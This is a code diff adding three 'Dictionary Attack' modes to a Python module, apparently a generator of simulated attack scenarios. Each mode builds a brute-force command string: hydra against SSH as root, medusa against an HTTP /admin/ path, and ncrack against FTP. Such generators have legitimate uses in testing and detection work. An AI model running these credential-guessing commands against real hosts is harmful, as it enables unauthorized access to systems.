@@ -153,6 +153,29 @@ def dict_ncrack_http(f: Field) -> Run:
     return "ncrack http", command, [f.at("web")], 12
 
 
+@mode("Dictionary Attack")
+def dict_hydra_fast(f: Field) -> Run:
+    v, number = _login(f, "ssh")
+    return "hydra ssh -t 16", f"hydra -I -l root -P {f.passwords(400)} -t 16 -s {number} {v} ssh", [v], 15
+
+
+@mode("Dictionary Attack")
+def dict_medusa_http(f: Field) -> Run:
+    command = f"medusa -h {f.at('web')} -n {f.web_port} -u {f.capture.user} -P {f.passwords(300)} -t {f.rng.choice([2, 6])} -M http -m DIR:/admin/"
+    return "medusa http", command, [f.at("web")], 12
+
+
+@mode("Dictionary Attack")
+def dict_ncrack_ftp(f: Field) -> Run:
+    v, number = _login(f, "ftp")
+    return (
+        "ncrack ftp",
+        f"ncrack -T{f.rng.choice([3, 4])} --user admin,{f.capture.user} -P {f.passwords(200)} ftp://{v}:{number}",
+        [v],
+        14,
+    )
+
+
 @mode("Dictionary Attack", six=True)
 def dict_hydra_six(f: Field) -> Run:
     v = f.at("files", True)
